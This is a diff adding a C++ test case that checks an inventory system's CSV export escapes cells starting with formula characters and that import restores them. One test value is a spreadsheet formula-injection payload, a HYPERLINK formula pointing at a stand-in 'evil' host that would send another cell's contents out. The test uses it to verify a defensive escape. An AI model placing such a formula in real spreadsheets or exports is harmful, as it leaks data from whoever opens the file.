@@ -168,6 +168,49 @@ TEST_CASE("export: import into an empty store and export again gives the same by
     CHECK(c.inv->getExtension("201").value().secret == a.inv->getExtension("201").value().secret);
 }
 
+TEST_CASE("export: cells that start like a formula get a leading quote, which the import takes off") {
+    Fixture a;
+    Device d;
+    d.mac = "001565000009";
+    d.label = "=HYPERLINK(\"http://evil/?\"&V2)";
+    d.serial = "'s-Hertogenbosch";
+    REQUIRE(a.inv->createDevice(d, a.admin));
+    Extension e;
+    e.extension = "401";
+    e.callerid_name = "'=1+1";  // already starts with a quote: gets one more
+    e.user = "@SUM(1)";
+    e.did = "+4930123456";      // a phone number: as it is
+    e.twinning_number = "+1*2"; // not only digits: escaped
+    e.secret = "-abcdefgh1";
+    e.mac = d.mac;
+    REQUIRE(a.inv->createExtension(e, a.admin));
+    auto out = a.inv->exportCsv(true);
+    REQUIRE(out);
+    const std::string& csv = out.value();
+    CHECK(csv.find("\"'=HYPERLINK(\"\"http://evil/?\"\"&V2)\"") != std::string::npos);
+    CHECK(csv.find(",'s-Hertogenbosch,") != std::string::npos);
+    CHECK(csv.find(",''=1+1,'@SUM(1),") != std::string::npos);
+    CHECK(csv.find(",+4930123456,'+1*2,") != std::string::npos);
+    CHECK(csv.find(",'-abcdefgh1\r\n") != std::string::npos);
+    // Back into an empty store: the values as they were, and the same bytes out.
+    Fixture b;
+    REQUIRE(b.import(csv).problems.empty());
+    const Device back = b.inv->getDevice(d.mac).value();
+    CHECK(back.label == d.label);
+    CHECK(back.serial == d.serial);
+    const Extension ext = b.inv->getExtension("401").value();
+    CHECK(ext.callerid_name == e.callerid_name);
+    CHECK(ext.user == e.user);
+    CHECK(ext.did == e.did);
+    CHECK(ext.twinning_number == e.twinning_number);
+    CHECK(ext.secret == e.secret);
+    CHECK(b.inv->exportCsv(true).value() == csv);
+    // And over its own store, the file changes nothing.
+    const ImportReport again = a.import(csv);
+    CHECK(again.extensions.unchanged == 1);
+    CHECK(again.devices.unchanged == 1);
+}
+
 TEST_CASE("import: a device row that changes the model must still hold the lines bound to it") {
     Fixture f;
     // A phone of no known model carries three lines...
